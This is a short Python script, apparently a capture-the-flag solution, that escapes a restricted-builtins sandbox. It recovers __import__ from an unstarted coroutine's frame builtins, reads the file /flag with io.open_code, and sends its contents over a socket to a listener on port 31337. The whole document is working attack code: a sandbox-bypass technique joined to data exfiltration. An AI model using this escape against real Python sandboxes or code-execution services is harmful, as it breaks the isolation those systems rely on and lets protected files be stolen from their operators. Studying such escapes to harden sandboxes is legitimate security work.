# An unstarted coroutine already owns a frame (cr_frame) with f_builtins;
# grab __import__ from it, read the flag with io.open_code and ship it to a
# local listener.
async def job():
    return 1


co = job()
imp = co.cr_frame.f_builtins['__import__']
co.close()

data = imp('io').open_code('/flag').read()
try:
    s = imp('socket').create_connection(('127.0.0.1', 31337), timeout=0.5)
    s.sendall(data)
    s.close()
except OSError:
    pass
